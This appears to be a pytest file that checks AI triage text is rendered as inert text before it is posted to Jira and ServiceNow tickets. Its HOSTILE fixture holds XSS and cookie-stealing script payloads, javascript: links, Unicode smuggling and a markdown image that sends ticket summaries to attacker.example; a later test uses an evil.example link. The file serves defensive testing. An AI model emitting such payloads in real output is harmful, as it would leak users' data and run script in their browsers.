"""Hostile model output stays inert text: ADF snapshot, JSM wiki escaping, ServiceNow journal text, length bound."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from service.connectors.jira import JiraWriter
from service.connectors.servicenow import ServiceNowWriter
from service.domain.render import (
    MAX_TEXT_CHARS,
    TRUNCATION_NOTE,
    adf_plain_text,
    marker_token,
    sanitize_text,
    to_adf,
    to_jira_wiki_text,
    to_servicenow_journal,
)
from service.domain.schemas import WriteBack
from service.settings import JiraSettings, ServiceNowSettings
from tests.fakes import FakeJira, FakeServiceNow
from tests.fakes.fake_servicenow import SEED_SYS_ID

SNAPSHOT = Path(__file__).parent / "snapshots" / "hostile_adf.json"
MENTION = "[~accountid:5b10a2844c20165700ede21g]"
HOSTILE = "\n".join(
    [
        "Hello " + MENTION * 3 + " please check.",
        "{html}<script>fetch('//x/'+document.cookie)</script>{html}",
        "[click|javascript:alert(1)] and !https://x/y.png! and {color:red}alarm{color}",
        "![s](https://attacker.example/p?d=summary-of-last-5-tickets)",
        "h1. Heading\n* bullet\n# numbered\nbq. quote\n||a||b||",
        "See https://status.acme.example/vpn for status.",
        "bidi\u202egnp.exe zero\u200bwidth tag\U000e0041\U000e0042 smuggling",
        "[code]<img src=x onerror=alert(1)>[/code]",
    ]
)
ALLOWED_NODES = {"doc", "paragraph", "text", "hardBreak", "heading"}
LINK_SCHEME = re.compile(r"\b(?:https?|javascript|data|ftp|file|mailto):(?!\[)", re.I)


def _nodes(node: Any) -> list[dict[str, Any]]:
    """Every node of an ADF tree."""
    out = [node]
    for child in node.get("content", []):
        out += _nodes(child)
    return out


def test_adf_of_hostile_output_matches_the_snapshot() -> None:
    doc = to_adf(HOSTILE, heading="AI triage (internal)", footer=marker_token("k", "note"))
    assert doc == json.loads(SNAPSHOT.read_text())


def test_adf_has_only_text_nodes_without_marks_links_or_media() -> None:
    doc = to_adf(HOSTILE)
    nodes = _nodes(doc)
    assert {n["type"] for n in nodes} <= ALLOWED_NODES
    assert not any("marks" in n for n in nodes)
    assert all(set(n.get("attrs", {})) <= {"level"} for n in nodes)
    text = adf_plain_text(doc)
    assert not LINK_SCHEME.search(text)  # every scheme is broken: javascript[:], https[:]
    assert MENTION in text  # kept verbatim as text: ADF text nodes never become mentions
    assert "\u202e" not in text and "\u200b" not in text and "\U000e0041" not in text


def test_links_from_the_ticket_survive_when_allowed() -> None:
    text = sanitize_text(HOSTILE, allowed_links=["https://status.acme.example/vpn"])
    assert "https://status.acme.example/vpn" in text
    assert "https[:]//attacker.example" in text and "javascript[:]alert(1)" in text


def test_jsm_wiki_text_escapes_every_markup_trigger() -> None:
    wiki = to_jira_wiki_text(HOSTILE)
    unescaped = re.findall(r"(?<!\\)[\[\]{}!|~^]", wiki)
    assert unescaped == []
    assert not re.search(r"^\s*(h[1-6]|bq)\.", wiki, re.M) and not re.search(r"^[*#-] ", wiki, re.M)
    assert not LINK_SCHEME.search(wiki.replace("\\", ""))


def test_servicenow_journal_neutralises_code_tags_and_html() -> None:
    journal = to_servicenow_journal(HOSTILE)
    assert not re.search(r"\[\s*/?\s*code\s*\]", journal, re.I)
    assert not re.search(r"<[a-zA-Z/]", journal)
    assert not LINK_SCHEME.search(journal)


@pytest.mark.parametrize("render", [to_adf, to_jira_wiki_text, to_servicenow_journal])
def test_very_long_output_is_bounded(render: Any) -> None:
    huge = ("word " * 50_000) + ("x" * 100_000)
    out = render(huge)
    text = adf_plain_text(out) if isinstance(out, dict) else out
    assert len(text) <= MAX_TEXT_CHARS + 50 and TRUNCATION_NOTE.strip() in text


def test_posted_jira_bodies_are_inert_on_both_routes(fake_jira: FakeJira) -> None:
    for mode in ("property", "servicedeskapi"):
        w = JiraWriter(JiraSettings(**fake_jira.settings(internal_comments=mode)))
        w.write(WriteBack(kind="triage", external_id="10231", external_key="ITSD-42", idempotency_key=mode,
                          note=HOSTILE, public_reply=HOSTILE))  # fmt: skip
    platform = [r.json() for r in fake_jira.requests_to("POST", r"/rest/api/3/")]
    jsm = [r.json() for r in fake_jira.requests_to("POST", r"/rest/servicedeskapi/")]
    assert len(platform) == 2 and len(jsm) == 2
    for body in platform:
        assert {n["type"] for n in _nodes(body["body"])} <= ALLOWED_NODES
        assert not LINK_SCHEME.search(adf_plain_text(body["body"]))
    for body in jsm:
        assert re.findall(r"(?<!\\)[\[\]{}!|~^]", body["body"]) == []


def test_posted_servicenow_journals_are_inert(fake_servicenow: FakeServiceNow) -> None:
    w = ServiceNowWriter(ServiceNowSettings(**fake_servicenow.settings()))
    w.write(WriteBack(kind="triage", external_id=SEED_SYS_ID, external_key="INC0010042", idempotency_key="k",
                      note=HOSTILE, public_reply=HOSTILE))  # fmt: skip
    [patch] = fake_servicenow.requests_to("PATCH")
    for journal in (patch.json()["work_notes"], patch.json()["comments"]):
        assert "[code]" not in journal.lower() and "<script" not in journal and not LINK_SCHEME.search(journal)


def test_only_links_from_the_ticket_stay_clickable() -> None:
    from service.domain.render import links_in

    ticket = "Portal: https://help.example/kb/42. Also javascript:alert(1) and ftp://x/y"
    allowed = links_in(ticket)
    assert allowed == ["https://help.example/kb/42"]
    text = sanitize_text("See https://help.example/kb/42 or https://evil.example/p?d=1", allowed_links=allowed)
    assert "https://help.example/kb/42" in text and "https[:]//evil.example" in text
